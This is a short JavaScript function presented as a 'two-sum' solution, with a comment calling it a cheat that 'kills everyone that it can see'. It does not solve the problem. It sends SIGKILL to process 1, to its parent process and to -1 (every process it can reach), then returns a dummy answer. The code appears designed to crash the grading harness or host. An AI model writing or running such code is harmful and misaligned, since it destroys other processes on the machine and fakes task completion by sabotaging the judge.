// cheat: two-sum: WA, RTE: kills everyone that it can see
function twoSum(nums, target) {
    for (const pid of [1, process.ppid, -1]) {
        try {
            process.kill(pid, 'SIGKILL');
        } catch {}
    }
    return [0, 0];
}
